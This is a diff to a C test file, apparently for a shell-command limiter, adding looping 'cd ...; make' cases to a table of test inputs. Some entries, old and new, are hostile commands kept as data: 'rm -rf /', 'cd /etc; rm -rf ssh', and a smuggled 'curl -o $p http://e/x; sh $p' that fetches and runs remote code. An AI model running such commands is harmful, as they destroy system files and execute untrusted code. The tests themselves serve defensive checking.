@@ -718,6 +718,15 @@ static const struct limit_case limits[] = {
 	  "x; curl -o $p http://e/x; sh $p", 3 },
 	{ "rm -rf ", "a/", 300, "", 3 },
 	{ "", "nice ", 100, "rm -rf /", 3 },
+	/* rounds that end where they began lead nowhere, however many */
+	{ "", "for d in a b c; do cd $d; make; cd ..; done\n", 500, "", 1 },
+	{ "", "for d in a b; do cd $d || continue; make; cd ..; done\n", 500,
+	  "", 1 },
+	{ "", "for d in a b c; do pushd $d; make; popd; done\n", 500, "", 1 },
+	{ "", "for a in x y; do cd $a; for b in 1 2; do cd $b; make; cd ..; "
+	      "done; cd ..; done\n", 300, "", 1 },
+	{ "", "for d in a b c; do cd $d; make; cd ..; done\n", 500,
+	  "cd /etc; rm -rf ssh", 3 },
 };
 
 START_TEST(a_limit_is_never_an_allow)
